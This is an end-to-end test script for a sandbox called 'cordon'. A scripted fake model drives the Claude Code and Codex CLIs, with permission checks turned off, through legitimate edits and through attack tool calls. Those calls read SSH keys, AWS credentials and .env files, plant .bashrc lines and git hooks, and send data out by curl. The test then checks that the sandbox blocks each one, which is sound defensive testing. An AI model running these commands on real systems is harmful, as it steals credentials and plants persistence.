#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# A real agent end to end: the Claude Code CLI (from npm, pinned) in a fresh home, driven by a
# scripted model of our own on loopback through tool calls that attack and that do legitimate
# work; outside cordon every attack works, under --policy claude-code every one is refused and
# every legitimate step done. Prints TAP; MODE=daemon runs it through a daemon (*_daemon.sh).
set -uo pipefail

# shellcheck source=tests/lib/tap.sh
. "${CORDON_SRC:-$PWD}/tests/lib/tap.sh"
TAP_PREFIX=agent-e2e${MODE:+-$MODE}/
SRC=$(realpath "${CORDON_SRC:-$PWD}")
need_root

# --- the CLIs: installed once into a cache outside the repository, reused by later runs --------
CLAUDE_VERSION=2.1.332
CODEX_VERSION=0.171.0
cache=${CORDON_TEST_CACHE:-/var/cache/cordon-tests}/npm
case $(uname -m) in
x86_64) plat=linux-x64 triple=x86_64-unknown-linux-musl ;;
aarch64) plat=linux-arm64 triple=aarch64-unknown-linux-musl ;;
*) cannot suite "no agent CLI build for $(uname -m)" && exit 0 ;;
esac
# npm_install DIR PACKAGE@VERSION: into $cache/DIR (npm's own configuration names the registry;
# a site's mirror comes from its npmrc). Unreachable: a skip, a failure under CI=true.
npm_install() {
	[[ -d $cache/$1/node_modules ]] && return 0
	command -v npm >/dev/null || { cannot suite "npm is not installed"; exit 0; }
	rm -rf "$cache/$1.tmp" && mkdir -p "$cache/$1.tmp"
	# --ignore-scripts: the platform package's binary is used as it is, no install script runs as root.
	if ! timeout 300 npm install --prefix "$cache/$1.tmp" --ignore-scripts --no-audit --no-fund --loglevel=error \
		"$2" >"$cache/$1.log" 2>&1; then
		tail -n 5 "$cache/$1.log" | sed 's/^/# /'
		rm -rf "$cache/$1.tmp"
		cannot suite "npm could not install $2 (registry unreachable?)"
		exit 0
	fi
	mv "$cache/$1.tmp" "$cache/$1" && rm -f "$cache/$1.log"
}
npm_install "claude-code-$CLAUDE_VERSION" "@anthropic-ai/claude-code@$CLAUDE_VERSION"
npm_install "codex-$CODEX_VERSION" "@openai/codex@$CODEX_VERSION"
claude_bin=$cache/claude-code-$CLAUDE_VERSION/node_modules/@anthropic-ai/claude-code-$plat/claude
codex_bin=$cache/codex-$CODEX_VERSION/node_modules/@openai/codex-$plat/vendor/$triple/bin/codex
for b in "$claude_bin" "$codex_bin"; do
	[[ -x $b ]] || { notok "suite (no $b after npm install)"; exit 1; }
done

session_setup e2e
# A user of its own whose home is made fresh for every run: no ~/.claude, no ~/.claude.json.
USER_NAME=cordon-agent
id "$USER_NAME" >/dev/null 2>&1 || useradd -m -U -s /bin/bash "$USER_NAME" || exit 1
home=$(getent passwd "$USER_NAME" | cut -d: -f6)
chown "$USER_NAME:" "$proj"
mode_setup
work=$(mktemp -d /tmp/cordon-e2e-work.XXXXXX)
chmod 755 "$work"
[[ ${MODE:-root} == daemon ]] && chown "$USER_NAME:" "$work" # the client opens --audit-log as the user

server_pids=()
cleanup() {
	[[ ${#server_pids[@]} -gt 0 ]] && kill "${server_pids[@]}" 2>/dev/null
	# E2E_KEEP=1 keeps the model's log, the CLI's output and the audit log for a look.
	[[ -n ${E2E_KEEP:-} ]] && echo "# kept $work" || rm -rf "$work"
	rm -rf "$proj"
	mode_cleanup
}
trap cleanup EXIT

# Secrets the attacks go for, each with a marker that must never reach the model.
tag=$RANDOM$RANDOM
ssh_secret=E2E-SSH-SECRET-$tag
aws_secret=E2E-AWS-SECRET-$tag
env_secret=E2E-DOTENV-SECRET-$tag
# A fresh home (skeleton files only, the secrets planted, the CLIs where a user's install puts
# them: Claude Code's native installer in ~/.local/share/claude/versions/V, Codex's release
# binary on PATH in ~/.local/bin; hard links into the cache) and a fresh git project.
claude=$home/.local/share/claude/versions/$CLAUDE_VERSION
codex=$home/.local/bin/codex
fresh() {
	rm -rf "$home" && mkdir -p "$home" && cp -a /etc/skel/. "$home/"
	mkdir -p "$home/.ssh" "$home/.aws" "$home/.local/share/claude/versions" "$home/.local/bin"
	echo "$ssh_secret" >"$home/.ssh/id_ed25519"
	printf '[default]\naws_secret_access_key = %s\n' "$aws_secret" >"$home/.aws/credentials"
	chmod 700 "$home/.ssh" && chmod 600 "$home/.ssh/id_ed25519"
	ln "$claude_bin" "$claude" 2>/dev/null || cp "$claude_bin" "$claude"
	ln "$codex_bin" "$codex" 2>/dev/null || cp "$codex_bin" "$codex"
	chown -R "$USER_NAME:" "$home"
	chown root: "$claude" "$codex"
	chmod 755 "$home"
	find "$proj" -mindepth 1 -delete
	as_user sh -ec "cd '$proj'
		git init -q . && git config user.email e2e@example.invalid && git config user.name e2e
		printf 'E2E-README-LINE\n' >README.md
		printf '#include <stdio.h>\nint main(void) { puts(\"HELLO-E2E\"); return 0; }\n' >hello.c
		printf 'hello: hello.c\n\tcc -o hello hello.c\n' >Makefile
		echo 'API_TOKEN=$env_secret' >.env
		printf '.env\nhello\n' >.gitignore
		git add -A && git commit -qm initial"
}
hostip=$(ip -4 -o addr show scope global | awk '{split($4, a, "/"); print a[1]; exit}')

# --- the scripted model and its steps ----------------------------------------------------------
# Legitimate work first and last (the session keeps working after refusals); the attacks between,
# by the shell tool and (Claude Code) by the in-process Read/Write/Edit tools. The commit comes
# after the hook attacks, so a hook planted outside runs there. Codex 0.171 offers a shell tool
# only (exec_command): its file work goes through the shell.
script() { # AGENT
	A=$1 H=$home P=$proj X=$hostip /usr/bin/python3 - <<'PY'
import json, os
A, H, P, X = os.environ["A"], os.environ["H"], os.environ["P"], os.environ["X"]
if A == "claude":
    sh = lambda c: ("Bash", {"command": c, "description": "step"})
else:
    sh = lambda c: ("exec_command", {"cmd": c, "workdir": P, "login": False})
if A == "claude":
    legit = [
        ("l_read_readme", "Read", {"file_path": P + "/README.md"}),
        ("l_edit_readme", "Edit", {"file_path": P + "/README.md", "old_string": "E2E-README-LINE",
                                   "new_string": "E2E-EDITED-LINE"}),
        ("l_write_notes", "Write", {"file_path": P + "/notes.txt", "content": "E2E-WRITTEN\n"}),
    ]
else:
    legit = [
        ("l_read_readme", *sh("cat README.md")),
        ("l_edit_readme", *sh("sed -i s/E2E-README-LINE/E2E-EDITED-LINE/ README.md")),
        ("l_write_notes", *sh("printf 'E2E-WRITTEN\\n' > notes.txt")),
    ]
attacks = [
    ("a_sh_ssh", *sh("cat ~/.ssh/id_*")),
    ("a_sh_aws", *sh("cat ~/.aws/credentials")),
    ("a_sh_env", *sh("cat .env")),
    ("a_sh_bashrc", *sh("echo 'echo E2E-PWNED-BASH # planted' >> ~/.bashrc && echo APPENDED")),
    ("a_sh_hook", *sh("printf '#!/bin/sh\\necho E2E-HOOK-RAN\\n' > .git/hooks/pre-commit && "
                      "chmod +x .git/hooks/pre-commit && echo PLANTED")),
    ("a_sh_connect_lo", *sh("curl -sS -m 5 -d E2E-EXFIL-LO http://127.0.0.1:@EXFIL_PORT@/lo")),
    ("a_sh_connect_out", *sh("curl -sS -m 5 -d E2E-EXFIL-OUT http://%s:@EXFIL_PORT@/out" % X)),
]
if A == "claude":
    attacks += [
        ("a_read_ssh", "Read", {"file_path": H + "/.ssh/id_ed25519"}),
        ("a_read_aws", "Read", {"file_path": H + "/.aws/credentials"}),
        ("a_read_env", "Read", {"file_path": P + "/.env"}),
        ("a_write_bash_login", "Write", {"file_path": H + "/.bash_login",
                                         "content": "echo E2E-PWNED-LOGIN\n"}),
        ("a_read_bashrc", "Read", {"file_path": H + "/.bashrc"}),
        ("a_edit_bashrc", "Edit", {"file_path": H + "/.bashrc", "old_string": "# ~/.bashrc",
                                   "new_string": "echo E2E-PWNED-EDIT\n# ~/.bashrc"}),
        ("a_write_hook", "Write", {"file_path": P + "/.git/hooks/post-commit",
                                   "content": "#!/bin/sh\necho E2E-HOOK-RAN\n"}),
    ]
else:
    attacks += [
        ("a_sh_bash_login", *sh("echo 'echo E2E-PWNED-LOGIN' > ~/.bash_login && echo WROTE")),
        ("a_sh_edit_bashrc", *sh("sed -i '1i echo E2E-PWNED-EDIT' ~/.bashrc && echo EDITED")),
        ("a_sh_hook2", *sh("printf '#!/bin/sh\\necho E2E-HOOK-RAN\\n' > .git/hooks/post-commit && echo PLANTED")),
    ]
final = [("l_sh_make", *sh("make && ./hello")),
         ("l_sh_commit", *sh("git add -A && git commit -qm 'e2e commit' && git log --oneline -1"))]
steps = legit + attacks + final
print(json.dumps({"steps": [{"name": n, "tool": t, "input": i} for n, t, i in steps]}))
PY
}

# The model server for AGENT: its script, port and logs in $work/AGENT.
start_model() {
	mkdir -p "$work/$1/log"
	script "$1" >"$work/$1/script.json"
	/usr/bin/python3 "$SRC/tests/lib/model_server.py" "$work/$1/script.json" "$work/$1/log" &
	server_pids+=($!)
	for ((i = 0; i < 50; i++)); do [[ -s $work/$1/log/port ]] && break; sleep 0.1; done
	[[ -s $work/$1/log/port ]] || { notok "$1/model_server_starts"; exit 1; }
}
start_model claude
start_model codex

# Each CLI's environment and arguments: our model, a dummy key, no telemetry, error reports or
# updates (the variables and options their documentation names).
agent_setup() { # AGENT: sets L (its log dir), port, xport, nsteps, agent_env, agent_cmd, policy
	L=$work/$1/log
	port=$(cat "$L/port")
	xport=$(cat "$L/exfil_port")
	nsteps=$(/usr/bin/python3 -c 'import json,sys; print(len(json.load(open(sys.argv[1]))["steps"]))' "$work/$1/script.json")
	policy=$1
	if [[ $1 == claude ]]; then
		policy="claude-code"
		agent_env=("ANTHROPIC_BASE_URL=http://127.0.0.1:$port" ANTHROPIC_API_KEY=sk-ant-e2e-dummy
			CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC=1 DISABLE_AUTOUPDATER=1 DISABLE_TELEMETRY=1
			DISABLE_ERROR_REPORTING=1)
		agent_cmd=("$claude" -p "Run the scripted steps." --dangerously-skip-permissions
			--output-format text)
	else
		# A provider of our own (the built-in one ignores OPENAI_BASE_URL and tries a WebSocket
		# first); gpt-5 is a model whose tools Codex knows (an unknown one gets no tools at all).
		agent_env=(OPENAI_API_KEY=sk-e2e-dummy)
		agent_cmd=("$codex" exec -m gpt-5 --skip-git-repo-check
			--dangerously-bypass-approvals-and-sandbox -c model_provider=e2e
			-c "model_providers.e2e={name=\"e2e\",base_url=\"http://127.0.0.1:$port/v1\",env_key=\"OPENAI_API_KEY\",wire_api=\"responses\"}"
			-c analytics.enabled=false "Run the scripted steps.")
	fi
}
# A run of the CLI: its stdout+stderr in $L/../out, its logs (requests, tool results, exfil) fresh.
reset_log() { rm -rf "$L/results" "$L/requests.jsonl" "$L/exfil.log" && mkdir "$L/results"; }
outside() {
	reset_log
	(cd "$proj" && timeout 150 setpriv --reuid="$USER_NAME" --regid="$USER_NAME" --init-groups \
		env -i PATH=/usr/bin:/bin HOME="$home" USER="$USER_NAME" "${agent_env[@]}" \
		"${agent_cmd[@]}") </dev/null >"$L/../out" 2>&1
}
# Inside: the model's port is allowed for this run only (--allow-connect); the policy's
# @model-apis set is left as shipped.
inside() {
	local run=$RUN
	reset_log
	rm -f "$work/audit.jsonl"
	# Through the daemon the client's environment is the one `env -i` in $RUN builds: the agent's
	# variables go there, as a user's shell would have them.
	run=${run/ $CORDON run/ ${agent_env[*]} $CORDON run}
	[[ ${MODE:-root} == daemon ]] || run="env ${agent_env[*]} $run"
	(cd "$proj" && timeout 150 $run --policy "$policy" --allow-degraded \
		--allow-connect "127.0.0.1:$port" --audit-log "$work/audit.jsonl" -- \
		"${agent_cmd[@]}") </dev/null >"$L/../out" 2>&1
}
result() { cat "$L/results/$1" 2>/dev/null; }
has() { grep -qF -- "$2" "$L/results/$1" 2>/dev/null; }
dump() { tail -n 20 "$L/../out" | sed 's/^/# /'; }
# The CLI ran, took every step and reached the end of the script.
completed() {
	local n
	n=$(grep -c '"POST"' "$L/requests.jsonl" 2>/dev/null)
	[[ ${n:-0} -ge $((nsteps + 1)) ]] && grep -q E2E-SCRIPT-DONE "$L/../out" &&
		[[ $(ls "$L/results" | wc -l) -eq $nsteps ]]
}
leaked() { grep -qF -e "$ssh_secret" -e "$aws_secret" -e "$env_secret" "$L/requests.jsonl"; }
bashrc_sum() { sha256sum <"$home/.bashrc"; }
# A refusal in the audit log: action, errno(s), and a path or a destination (ip:port) it names.
# A path is recorded as the syscall got it: a relative one is taken from the agent's directory
# (the project, where every step runs).
record() {
	/usr/bin/python3 - "$work/audit.jsonl" "$proj" "$@" <<'PY'
import json, os, sys
log, cwd, action, code, what = sys.argv[1:6]
for line in open(log):
    r = json.loads(line)
    d = r.get("destination") or {}
    path = (r.get("file") or {}).get("path") or ""
    path = os.path.join(cwd, path) if path and not path.startswith("/") else path
    if (r.get("event", {}).get("action") == action and r.get("error", {}).get("code") in code.split("|")
            and ((path and what in path) or what == "%s:%s" % (d.get("ip"), d.get("port")))):
        sys.exit(0)
sys.exit(1)
PY
}
# No record names a path in root's home: the agent runs with its user's environment (PATH as
# su - sets it), not root's ($HOME/.cargo/bin or pyenv shims searched on every exec).
nothing_of_root() {
	! grep -q '"path": *"/root/' "$work/audit.jsonl"
}
# The secret-reading steps of the script, as STEP:MARKER.
secret_steps() {
	echo "a_sh_ssh:$ssh_secret a_sh_aws:$aws_secret a_sh_env:$env_secret"
	[[ $1 == claude ]] && echo "a_read_ssh:$ssh_secret a_read_aws:$aws_secret a_read_env:$env_secret"
}

# --- outside cordon: every attack works (else the test proves nothing) ------------------------
run_outside() {
	local a=$1 s
	agent_setup "$a"
	fresh
	outside
	completed && ok "$a/outside_cli_ran_every_step" || { notok "$a/outside_cli_ran_every_step"; dump; }
	for s in $(secret_steps "$a"); do
		has "${s%%:*}" "${s#*:}" && ok "$a/outside_${s%%:*}_reads_the_secret" ||
			notok "$a/outside_${s%%:*}_reads_the_secret"
	done
	grep -q E2E-PWNED-BASH "$home/.bashrc" && grep -q E2E-PWNED-EDIT "$home/.bashrc" &&
		ok "$a/outside_bashrc_appended_and_edited" || notok "$a/outside_bashrc_appended_and_edited"
	[[ -e $home/.bash_login ]] && ok "$a/outside_bash_login_written" || notok "$a/outside_bash_login_written"
	[[ -x $proj/.git/hooks/pre-commit && -e $proj/.git/hooks/post-commit ]] && has l_sh_commit E2E-HOOK-RAN &&
		ok "$a/outside_hooks_planted_and_run_at_commit" || notok "$a/outside_hooks_planted_and_run_at_commit"
	grep -q E2E-EXFIL-LO "$L/exfil.log" 2>/dev/null && grep -q E2E-EXFIL-OUT "$L/exfil.log" &&
		ok "$a/outside_connects_reach_the_listener" || notok "$a/outside_connects_reach_the_listener"
}

# --- inside, the first run in a fresh home -----------------------------------------------------
run_inside() {
	local a=$1 s n rc state
	agent_setup "$a"
	fresh
	local bashrc0
	bashrc0=$(bashrc_sum)
	inside
	rc=$?
	completed && ok "$a/inside_first_run_cli_ran_every_step" ||
		{ notok "$a/inside_first_run_cli_ran_every_step (rc=$rc)"; dump; }
	# Its state directory made for it (0700, the user's), nothing refused while it set up.
	state=$home/.claude
	[[ $a == codex ]] && state=$home/.codex
	[[ $(stat -c '%U %a' "$state" 2>/dev/null) == "$USER_NAME 700" ]] &&
		ok "$a/inside_state_dir_created_0700" || notok "$a/inside_state_dir_created_0700 ($(stat -c '%U %a' "$state" 2>&1))"
	# (Codex prints its commands' output too: only refusals naming its state count.)
	! grep -i "EACCES\|permission denied\|read-only file system" "$L/../out" | grep -q "\.claude\|\.codex" &&
		ok "$a/inside_no_refusal_of_its_state" ||
		{ notok "$a/inside_no_refusal_of_its_state"; grep -i "EACCES\|denied\|read-only" "$L/../out" | head -5 | sed 's/^/# /'; }
	# Legitimate work, on disk.
	has l_read_readme E2E-README-LINE && ok "$a/legit_read" || notok "$a/legit_read"
	grep -qx E2E-EDITED-LINE "$proj/README.md" && ok "$a/legit_edit" || notok "$a/legit_edit"
	[[ $(cat "$proj/notes.txt" 2>/dev/null) == E2E-WRITTEN ]] && ok "$a/legit_write" || notok "$a/legit_write"
	has l_sh_make HELLO-E2E && [[ -x $proj/hello ]] && ok "$a/legit_make" || { notok "$a/legit_make"; result l_sh_make | sed 's/^/# /'; }
	as_user git -C "$proj" log -1 --format=%s 2>/dev/null | grep -qx 'e2e commit' &&
		as_user git -C "$proj" show --name-only --format= HEAD | grep -qx notes.txt &&
		ok "$a/legit_git_commit" || { notok "$a/legit_git_commit"; result l_sh_commit | sed 's/^/# /'; }
	# Attacks: refused, nothing of a secret in any request the model got, nothing left behind.
	for s in $(secret_steps "$a"); do
		n=${s%%:*}
		[[ -e $L/results/$n ]] && ! has "$n" "${s#*:}" && ok "$a/refused_$n" ||
			{ notok "$a/refused_$n"; result "$n" | sed 's/^/# /'; }
	done
	leaked && notok "$a/no_secret_in_any_request" || ok "$a/no_secret_in_any_request"
	[[ $(bashrc_sum) == "$bashrc0" ]] && ok "$a/refused_bashrc_append_and_edit" || notok "$a/refused_bashrc_append_and_edit"
	[[ ! -e $home/.bash_login ]] && ok "$a/refused_write_bash_login" || notok "$a/refused_write_bash_login"
	[[ ! -e $proj/.git/hooks/pre-commit && ! -e $proj/.git/hooks/post-commit ]] && ! has l_sh_commit E2E-HOOK-RAN &&
		ok "$a/refused_git_hooks" || notok "$a/refused_git_hooks"
	[[ ! -s $L/exfil.log ]] && ok "$a/refused_connect_out" || { notok "$a/refused_connect_out"; sed 's/^/# /' "$L/exfil.log"; }
	# What the agent was told: the shell's error text, the in-process tools' errors.
	for n in a_sh_ssh a_sh_aws a_sh_env a_sh_bashrc a_sh_hook; do
		grep -qi 'permission denied\|not permitted\|read-only file system' "$L/results/$n" &&
			! grep -q 'APPENDED\|PLANTED' "$L/results/$n" &&
			ok "$a/error_text_$n" || { notok "$a/error_text_$n"; result "$n" | sed 's/^/# /'; }
	done
	for n in a_sh_connect_lo a_sh_connect_out; do
		grep -q "Couldn't connect\|Failed to connect\|not permitted\|denied" "$L/results/$n" &&
			ok "$a/error_text_$n" || { notok "$a/error_text_$n"; result "$n" | sed 's/^/# /'; }
	done
	if [[ $a == claude ]]; then
		for n in a_read_ssh a_read_aws a_read_env a_write_bash_login a_edit_bashrc a_write_hook; do
			grep -q '^ERROR: ' "$L/results/$n" && ok "$a/tool_error_$n" || { notok "$a/tool_error_$n"; result "$n" | sed 's/^/# /'; }
		done
	fi
	# The audit log names each refusal (secrets that exist at start are masked by the view: their
	# records name mount_ns; writes to protected paths meet the read-only view, EROFS).
	for s in "ssh:$home/.ssh/id_" "aws:$home/.aws/credentials" "dotenv:$proj/.env"; do
		check "$a/audit_names_${s%%:*}" record syscall-openat EACCES "${s#*:}"
	done
	check "$a/audit_names_bashrc" record syscall-openat "EROFS|EACCES" "$home/.bashrc"
	check "$a/audit_names_git_hook" record syscall-openat "EROFS|EACCES" hooks/pre-commit
	check "$a/audit_names_connect_loopback" record syscall-connect "EACCES|EPERM" "127.0.0.1:$xport"
	check "$a/audit_names_connect_out" record syscall-connect "EACCES|EPERM" "$hostip:$xport"
	check "$a/no_record_of_roots_environment" nothing_of_root
}

for a in claude codex; do
	run_outside "$a"
	run_inside "$a"
done
